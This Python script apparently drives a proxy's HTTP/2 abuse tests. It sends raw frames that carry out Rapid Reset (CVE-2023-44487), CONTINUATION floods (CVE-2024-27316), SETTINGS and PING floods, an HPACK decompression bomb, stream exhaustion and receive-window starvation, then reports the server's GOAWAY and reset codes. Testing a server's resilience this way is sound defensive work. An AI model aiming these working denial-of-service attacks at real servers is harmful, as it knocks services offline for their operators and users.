#!/usr/bin/env python3
"""HTTP/2 attackers for tests/h2_abuse.rs: raw frames written with hyperframe and hpack (the
h2 package's own codecs), so the attacker can send what a well-behaved HTTP/2 stack refuses to.

The connection is made through tollgate's forward listener (CONNECT, then TLS to tollgate's
minted leaf with ALPN h2: interception) or straight to a port with HTTP/2 prior knowledge
(--plain). Each attack runs for at most --seconds and prints one JSON object on stdout: what
the attacker sent, and what came back (GOAWAY code, RST_STREAM codes, response statuses).

Attacks:
  rapid_reset   HEADERS then RST_STREAM(CANCEL) on new streams in a loop (CVE-2023-44487);
                with --reconnect, a new connection after each GOAWAY until --seconds pass
  continuation  HEADERS without END_HEADERS, then endless CONTINUATION frames (CVE-2024-27316)
  settings      SETTINGS frames as fast as the socket takes them, never reading the ACKs
  ping          PING frames likewise
  hpack_bomb    one 4,000-byte header put in the HPACK table, then referenced 12,000 times
                (about 14 KB encoded, 48 MB decoded)
  streams       --streams GET streams opened at once on --path (held open by the origin)
  starve        GET --path and never open the receive window past the first 64 KiB
"""

import argparse
import json
import socket
import ssl
import sys
import time

from hpack import Decoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 0xB


def hpack_int(value, prefix_bits, first_byte_flags):
    """An HPACK integer (RFC 7541 5.1) with the first byte's high bits set to the flags."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header without indexing, new name (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def request_block(method, authority, path, extra=()):
    """A request header block that leaves the HPACK dynamic table untouched."""
    block = literal(":method", method) + literal(":scheme", "https")
    block += literal(":authority", authority) + literal(":path", path)
    for name, value in extra:
        block += literal(name, value)
    return block


class Conn:
    """One HTTP/2 connection and everything that came back on it."""

    def __init__(self, args, small_buffers=False):
        self.args = args
        self.small_buffers = small_buffers
        self.sock = self._connect()
        self.buf = b""
        self.decoder = Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.goaway = None
        self.closed = False
        self.rst = {}
        self.statuses = {}
        self.data = {}
        self.ended = set()
        self.settings_acks = 0
        self.ping_acks = 0
        self.first_frame_at = None

    def _connect(self):
        a = self.args
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if self.small_buffers:
            # Small socket buffers: a reader that does not read is felt within 64 KiB.
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        sock.settimeout(10)
        sock.connect((a.host, a.port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if a.plain:
            return sock
        sock.sendall(f"CONNECT {a.authority} HTTP/1.1\r\nHost: {a.authority}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head and len(head) < 8192:
            chunk = sock.recv(1)
            if not chunk:
                raise SystemExit("the proxy closed the CONNECT")
            head += chunk
        if not head.startswith(b"HTTP/1.1 200"):
            raise SystemExit(f"CONNECT refused: {head[:64]!r}")
        ctx = ssl.create_default_context(cafile=a.cafile)
        ctx.set_alpn_protocols(["h2"])
        tls = ctx.wrap_socket(sock, server_hostname=a.authority.rsplit(":", 1)[0])
        if tls.selected_alpn_protocol() != "h2":
            raise SystemExit(f"ALPN chose {tls.selected_alpn_protocol()!r}, not h2")
        return tls

    def send(self, data):
        self.sock.settimeout(10)
        self.sock.sendall(data)

    def start(self, settings=None):
        frame = SettingsFrame(0, settings=settings or {})
        self.send(PREFACE + frame.serialize())

    def pump(self, timeout):
        """Reads what arrives within `timeout` seconds; False once the connection is closed."""
        if self.closed:
            return False
        self.sock.settimeout(timeout)
        try:
            chunk = self.sock.recv(1 << 16)
        except (socket.timeout, ssl.SSLWantReadError):
            return True
        except (ConnectionError, ssl.SSLError, OSError):
            self.closed = True
            return False
        if not chunk:
            self.closed = True
            return False
        self.buf += chunk
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            self.on_frame(frame)
        return True

    def on_frame(self, frame):
        if self.first_frame_at is None:
            self.first_frame_at = time.monotonic()
        if isinstance(frame, GoAwayFrame):
            self.goaway = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            self.rst[frame.stream_id] = frame.error_code
        elif isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                self.settings_acks += 1
            else:
                try:
                    self.send(SettingsFrame(0, flags=["ACK"]).serialize())
                except (ConnectionError, ssl.SSLError, OSError):
                    self.closed = True
        elif isinstance(frame, PingFrame):
            if "ACK" in frame.flags:
                self.ping_acks += 1
        elif isinstance(frame, HeadersFrame):
            for name, value in self.decoder.decode(frame.data):
                if name in (":status", b":status"):
                    self.statuses[frame.stream_id] = int(value)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif isinstance(frame, ContinuationFrame):
            pass
        elif isinstance(frame, DataFrame):
            self.data[frame.stream_id] = self.data.get(frame.stream_id, 0) + len(frame.data)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)

    def pump_until(self, done, seconds):
        """Reads until done() or the connection closes or `seconds` pass."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not done():
            if not self.pump(min(0.2, max(0.0, deadline - time.monotonic()))):
                break

    def report(self):
        codes = {}
        for code in self.rst.values():
            codes[str(code)] = codes.get(str(code), 0) + 1
        return {
            "goaway": self.goaway,
            "closed": self.closed,
            "rst_codes": codes,
            "statuses": {str(k): v for k, v in sorted(self.statuses.items())},
            "data_bytes": sum(self.data.values()),
            "settings_acks": self.settings_acks,
            "ping_acks": self.ping_acks,
        }

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def get_block(args, path=None, extra=()):
    return request_block("GET", args.authority, path or args.path, extra)


def rapid_reset(args):
    deadline = time.monotonic() + args.seconds
    opened = 0
    connections = 0
    goaways = {}
    last = None
    while time.monotonic() < deadline:
        conn = Conn(args)
        connections += 1
        conn.start()
        block = get_block(args)
        stream = 1
        try:
            while time.monotonic() < deadline and conn.goaway is None and not conn.closed:
                batch = bytearray()
                for _ in range(25):
                    batch += HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                    batch += RstStreamFrame(stream, error_code=8).serialize()
                    stream += 2
                    opened += 1
                # A PING after each batch, waited for: the GOAWAY is read before more frames
                # are sent (frames tollgate never reads make its close a reset, which would
                # discard the GOAWAY before it is read).
                acks = conn.ping_acks
                batch += PingFrame(0, opaque_data=b"rapidrst").serialize()
                conn.send(bytes(batch))
                conn.pump_until(lambda: conn.ping_acks > acks or conn.goaway is not None or conn.closed, 5)
                if stream > (1 << 30):
                    break
        except (ConnectionError, ssl.SSLError, OSError):
            conn.closed = True
        conn.pump_until(lambda: conn.goaway is not None or conn.closed, 2)
        code = "none" if conn.goaway is None else str(conn.goaway)
        goaways[code] = goaways.get(code, 0) + 1
        last = conn.report()
        conn.close()
        if not args.reconnect:
            break
    return {"streams_opened": opened, "connections": connections, "goaways": goaways, "last": last}


def continuation(args):
    conn = Conn(args)
    conn.start()
    conn.send(HeadersFrame(1, get_block(args)).serialize())
    sent = 0
    deadline = time.monotonic() + args.seconds
    frame = ContinuationFrame(1, b"").serialize()
    try:
        while time.monotonic() < deadline and conn.goaway is None and not conn.closed:
            conn.send(frame * 100)
            sent += 100
            # Read before the next batch: the GOAWAY must be read before frames tollgate
            # never reads make its close a reset.
            conn.pump_until(lambda: conn.goaway is not None or conn.closed, 0.2)
    except (ConnectionError, ssl.SSLError, OSError):
        pass
    conn.pump_until(lambda: conn.goaway is not None or conn.closed, 3)
    out = conn.report()
    out["continuations_sent"] = sent
    conn.close()
    return out


def flood(args, make):
    """Sends frames without reading until the socket stops taking them (the server stopped
    reading: backpressure) or --seconds pass; then reads the answers and asks for a page."""
    conn = Conn(args, small_buffers=True)
    conn.start()
    conn.pump_until(lambda: conn.settings_acks > 0, 5)
    before_acks = (conn.settings_acks, conn.ping_acks)
    deadline = time.monotonic() + args.seconds
    bytes_sent = 0
    backpressured = False
    stalled_since = None
    conn.sock.setblocking(False)
    frame_len = len(make(0))
    batch = b"".join(make(i) for i in range(200))
    pending = b""
    while time.monotonic() < deadline:
        if not pending:
            pending = batch
        try:
            n = conn.sock.send(pending)
            bytes_sent += n
            pending = pending[n:]
            stalled_since = None
        except (BlockingIOError, ssl.SSLWantWriteError):
            stalled_since = stalled_since or time.monotonic()
            if time.monotonic() - stalled_since > 1.0:
                backpressured = True
                break
            time.sleep(0.01)
        except (ConnectionError, ssl.SSLError, OSError):
            conn.closed = True
            break
    # The rest of a partly written batch goes out while the answers are read (tollgate is
    # blocked writing them to us; both sides waiting on each other would be a deadlock).
    finish_by = time.monotonic() + 10
    while pending and not conn.closed and time.monotonic() < finish_by:
        conn.pump(0.05)
        conn.sock.setblocking(False)
        try:
            n = conn.sock.send(pending)
            bytes_sent += n
            pending = pending[n:]
        except (BlockingIOError, ssl.SSLWantWriteError):
            pass
        except (ConnectionError, ssl.SSLError, OSError):
            conn.closed = True
    conn.sock.setblocking(True)
    sent = bytes_sent // frame_len
    # Read the answers for a while, then ask for a page on the same connection.
    conn.pump_until(lambda: conn.goaway is not None, 3)
    answered = None
    if not conn.closed and conn.goaway is None:
        conn.send(HeadersFrame(1, get_block(args), flags=["END_HEADERS", "END_STREAM"]).serialize())
        conn.pump_until(lambda: 1 in conn.ended or 1 in conn.rst or conn.goaway is not None, 10)
        answered = conn.statuses.get(1)
    out = conn.report()
    out.update(
        frames_sent=sent,
        backpressured=backpressured,
        acks_during=[conn.settings_acks - before_acks[0], conn.ping_acks - before_acks[1]],
        status_after=answered,
    )
    conn.close()
    return out


def hpack_bomb(args):
    conn = Conn(args)
    conn.start()
    block = get_block(args)
    # Literal with incremental indexing, new name: goes into the dynamic table at index 62.
    name, value = b"x-bomb", b"a" * 4000
    block += b"\x40" + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value
    block += bytes([0x80 | 62]) * 12000  # indexed field 62, 12,000 times
    conn.send(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    conn.pump_until(lambda: conn.goaway is not None or conn.closed or 1 in conn.rst or 1 in conn.ended, 10)
    out = conn.report()
    out["encoded_bytes"] = len(block)
    conn.close()
    return out


def streams(args):
    conn = Conn(args)
    conn.start()
    conn.pump_until(lambda: conn.settings_acks > 0, 5)
    batch = bytearray()
    ids = [1 + 2 * i for i in range(args.streams)]
    for stream in ids:
        batch += HeadersFrame(stream, get_block(args), flags=["END_HEADERS", "END_STREAM"]).serialize()
    conn.send(bytes(batch))
    conn.pump_until(lambda: all(s in conn.ended or s in conn.rst for s in ids) or conn.goaway is not None, args.seconds)
    out = conn.report()
    conn.close()
    return out


def starve(args):
    conn = Conn(args)
    conn.start()
    conn.send(HeadersFrame(1, get_block(args), flags=["END_HEADERS", "END_STREAM"]).serialize())
    started = time.monotonic()
    conn.pump_until(lambda: 1 in conn.rst or 1 in conn.ended or conn.goaway is not None, args.seconds)
    out = conn.report()
    out["stream_ended_after_s"] = round(time.monotonic() - started, 3)
    conn.close()
    return out


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["rapid_reset", "continuation", "settings", "ping", "hpack_bomb", "streams", "starve"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--authority", required=True, help="host:port of the origin (CONNECT target and :authority)")
    p.add_argument("--cafile", help="the interception CA")
    p.add_argument("--plain", action="store_true", help="HTTP/2 prior knowledge straight to --port")
    p.add_argument("--path", default="/echo")
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--streams", type=int, default=10)
    p.add_argument("--reconnect", action="store_true")
    args = p.parse_args()
    attacks = {
        "rapid_reset": rapid_reset,
        "continuation": continuation,
        "settings": lambda a: flood(a, lambda i: SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100 + i % 7}).serialize()),
        "ping": lambda a: flood(a, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize()),
        "hpack_bomb": hpack_bomb,
        "streams": streams,
        "starve": starve,
    }
    run = attacks[args.attack]
    if args.reconnect and args.attack != "rapid_reset":
        # Rounds of the attack, each on a new connection, until --seconds pass.
        deadline = time.monotonic() + args.seconds
        rounds = []
        while time.monotonic() < deadline and len(rounds) < 10_000:
            args.seconds = max(0.5, deadline - time.monotonic())
            rounds.append(run(args))
        goaways = {}
        for r in rounds:
            code = "none" if r.get("goaway") is None else str(r["goaway"])
            goaways[code] = goaways.get(code, 0) + 1
        out = {"rounds": len(rounds), "goaways": goaways, "last": rounds[-1] if rounds else None}
    else:
        out = run(args)
    json.dump(out, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
